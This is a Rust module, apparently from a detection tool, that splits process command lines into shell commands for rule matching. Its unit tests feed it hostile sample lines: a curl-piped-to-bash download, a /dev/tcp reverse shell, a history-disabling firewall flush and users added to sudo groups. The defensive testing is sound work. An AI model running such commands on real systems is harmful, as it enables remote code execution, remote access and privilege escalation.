//! A command line read as a shell would run it, closely enough for rules.
//!
//! The kernel keeps a process's arguments, not its quoting: `/proc` hands `sh -c "curl x | sh"`
//! over as `sh -c curl x | sh`. So the line is cut into words at white space, quotes are
//! dropped, and the words are grouped into the simple commands a shell would run: at `|`, `;`,
//! `&` and parentheses, and after a shell's `-c`. A rule then asks what each command is (its
//! program's name, past `sudo`, `env`, `nohup`, `busybox` and `VAR=value`) and what its
//! arguments are, wherever it sits in the line.

/// How a command is joined to the one before it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Join {
    /// The first command of the line.
    Start,
    /// Its input is the previous command's output (`|`).
    Pipe,
    /// It runs after or beside it (`;`, `&`, `&&`, `||`, parentheses, a shell's `-c`).
    Sequence,
}

/// One simple command.
#[derive(Debug, PartialEq, Eq)]
pub struct Command {
    /// How it follows the previous one.
    pub join: Join,
    /// Its program's name: the last path component of the first word that is neither a
    /// wrapper nor an assignment, in lower case.
    pub name: String,
    /// The words after the program, as written.
    pub args: Vec<String>,
    /// Assignments before the program (`HISTFILE=/dev/null`).
    pub assignments: Vec<String>,
}

/// Programs that run the command after them.
const WRAPPERS: [&str; 9] = [
    "sudo", "doas", "env", "nohup", "exec", "busybox", "command", "nice", "setsid",
];

/// Shells: the words after their `-c` are a script of commands of their own.
pub const SHELLS: [&str; 8] = ["sh", "bash", "dash", "zsh", "ash", "ksh", "mksh", "fish"];

/// The last component of a path, in lower case.
pub fn base_name(word: &str) -> String {
    word.rsplit('/').next().unwrap_or(word).to_ascii_lowercase()
}

/// Whether `word` is a shell's script flag (`-c`, `-ec`, `-lc`, …).
fn script_flag(word: &str) -> bool {
    word.len() >= 2
        && word.starts_with('-')
        && !word.starts_with("--")
        && word.ends_with('c')
        && word[1..].chars().all(|c| c.is_ascii_alphabetic())
}

/// The line's simple commands, in order.
pub fn commands(line: &str) -> Vec<Command> {
    let mut out = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut join = Join::Start;
    let mut word = String::new();
    let flush_word = |word: &mut String, words: &mut Vec<String>| {
        if !word.is_empty() {
            words.push(std::mem::take(word));
        }
    };
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' | '\'' | '`' => {}
            '|' | ';' | '&' | '(' | ')' => {
                // A redirection (`>&`, `2>&1`, `&>`) is part of its word, not a separator.
                if c == '&'
                    && (word.ends_with('>') || word.ends_with('<') || chars.peek() == Some(&'>'))
                {
                    word.push(c);
                    continue;
                }
                flush_word(&mut word, &mut words);
                push(&mut out, std::mem::take(&mut words), join);
                join = Join::Sequence;
                if c == '|' || c == '&' {
                    // `||` and `&&` are one separator; a lone `|` is a pipe.
                    if chars.peek() == Some(&c) {
                        chars.next();
                    } else if c == '|' {
                        join = Join::Pipe;
                    }
                }
            }
            c if c.is_whitespace() => flush_word(&mut word, &mut words),
            c => word.push(c),
        }
    }
    flush_word(&mut word, &mut words);
    push(&mut out, words, join);
    out
}

/// Adds the command of `words`, and, when it is a shell with `-c`, the commands of its script.
fn push(out: &mut Vec<Command>, words: Vec<String>, join: Join) {
    let mut words = words.into_iter().peekable();
    let mut assignments = Vec::new();
    let name = loop {
        let Some(word) = words.next() else {
            return;
        };
        if is_assignment(&word) {
            assignments.push(word);
            continue;
        }
        let name = base_name(&word);
        if WRAPPERS.contains(&name.as_str()) {
            // A wrapper's own options (`sudo -u edge`, `nice -n 5`) are not the command.
            while words.peek().is_some_and(|w| w.starts_with('-')) {
                let option = words.next().unwrap_or_default();
                if matches!(option.as_str(), "-u" | "-g" | "-n" | "-C" | "-D") {
                    words.next();
                }
            }
            continue;
        }
        break name;
    };
    let mut args: Vec<String> = words.collect();
    if SHELLS.contains(&name.as_str())
        && let Some(at) = args.iter().position(|a| script_flag(a))
    {
        let script = args.split_off(at + 1);
        out.push(Command {
            join,
            name,
            args,
            assignments,
        });
        push(out, script, Join::Sequence);
        return;
    }
    out.push(Command {
        join,
        name,
        args,
        assignments,
    });
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && !name.starts_with(|c: char| c.is_ascii_digit())
    })
}

impl Command {
    /// Whether it has argument `arg`.
    pub fn has(&self, arg: &str) -> bool {
        self.args.iter().any(|a| a == arg)
    }

    /// Whether it has any of `args`.
    pub fn has_any(&self, args: &[&str]) -> bool {
        self.args.iter().any(|a| args.contains(&a.as_str()))
    }

    /// Whether one of its short options (`-aG`, `-e`) includes letter `flag`.
    pub fn short(&self, flag: char) -> bool {
        self.args.iter().any(|a| {
            a.len() >= 2
                && a.starts_with('-')
                && !a.starts_with("--")
                && a[1..].chars().all(|c| c.is_ascii_alphanumeric())
                && a[1..].contains(flag)
        })
    }

    /// Its operands: the arguments that are not options, and not the value of an option in
    /// `valued` (`-g GROUP`: options written alone or as the last letter of a group, and long
    /// ones, which may also be written `--opt=value`).
    pub fn operands(&self, valued: &[&str]) -> Vec<&str> {
        let mut out = Vec::new();
        let mut args = self.args.iter();
        let mut options_done = false;
        while let Some(a) = args.next() {
            if options_done || !a.starts_with('-') || a == "-" {
                out.push(a.as_str());
                continue;
            }
            if a == "--" {
                options_done = true;
                continue;
            }
            let takes_value = if a.starts_with("--") {
                !a.contains('=') && valued.contains(&a.as_str())
            } else {
                // `-aG wheel`: the value follows the last letter, if that letter takes one;
                // `-gwheel`: a letter that takes one ends the group with its value.
                let letters = &a[1..];
                match letters
                    .char_indices()
                    .find(|(_, c)| valued.contains(&format!("-{c}").as_str()))
                {
                    Some((at, c)) => at + c.len_utf8() == letters.len(),
                    None => false,
                }
            };
            if takes_value {
                args.next();
            }
        }
        out
    }

    /// The value of option `flag` (`-G wheel`, `-aG wheel`, `--groups=wheel`, `--groups wheel`).
    pub fn value(&self, short: Option<char>, long: Option<&str>) -> Option<&str> {
        let mut args = self.args.iter();
        while let Some(a) = args.next() {
            if let Some(long) = long {
                if a == long {
                    return args.next().map(String::as_str);
                }
                if let Some(v) = a.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
                    return Some(v);
                }
            }
            if let Some(short) = short
                && a.len() >= 2
                && a.starts_with('-')
                && !a.starts_with("--")
                && let Some(at) = a[1..].find(short)
            {
                let rest = &a[1 + at + short.len_utf8()..];
                return if rest.is_empty() {
                    args.next().map(String::as_str)
                } else {
                    Some(rest)
                };
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(line: &str) -> Vec<(Join, String)> {
        commands(line)
            .into_iter()
            .map(|c| (c.join, c.name))
            .collect()
    }

    #[test]
    fn pipelines_sequences_and_shell_scripts_are_cut_into_commands() {
        assert_eq!(
            names("sh -c curl -fsSL http://x/i.sh | sudo -u root bash -s"),
            [
                (Join::Start, "sh".into()),
                (Join::Sequence, "curl".into()),
                (Join::Pipe, "bash".into())
            ]
        );
        assert_eq!(
            names("/bin/bash -lc 'cd /tmp && wget x; chmod +x x||true'"),
            [
                (Join::Start, "bash".into()),
                (Join::Sequence, "cd".into()),
                (Join::Sequence, "wget".into()),
                (Join::Sequence, "chmod".into()),
                (Join::Sequence, "true".into())
            ]
        );
        let c = commands("env HISTFILE=/dev/null nohup /usr/sbin/IPTABLES -F");
        assert_eq!(c.len(), 1);
        assert_eq!(c[0].name, "iptables");
        assert_eq!(c[0].assignments, ["HISTFILE=/dev/null"]);
        assert_eq!(c[0].args, ["-F"]);
    }

    #[test]
    fn redirections_stay_in_their_words() {
        let c = commands("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
        assert_eq!(c.len(), 1);
        assert_eq!(c[0].args, ["-i", ">&", "/dev/tcp/127.0.0.1/4444", "0>&1"]);
        assert_eq!(commands("cmd &>/dev/null")[0].args, ["&>/dev/null"]);
    }

    #[test]
    fn options_values_and_operands() {
        let c = &commands("usermod -aG wheel,docker --comment=x -s /bin/sh bob")[0];
        assert!(c.short('a') && c.short('G') && !c.short('r'));
        assert_eq!(c.value(Some('G'), Some("--groups")), Some("wheel,docker"));
        assert_eq!(c.operands(&["-G", "-s", "--comment"]), ["bob"]);
        let c = &commands("gpasswd --add bob sudo")[0];
        assert_eq!(c.operands(&[]), ["bob", "sudo"]);
        let c = &commands("useradd -m -gusers -- -weird")[0];
        assert_eq!(c.operands(&["-g"]), ["-weird"]);
        assert_eq!(c.value(Some('g'), None), Some("users"));
    }
}
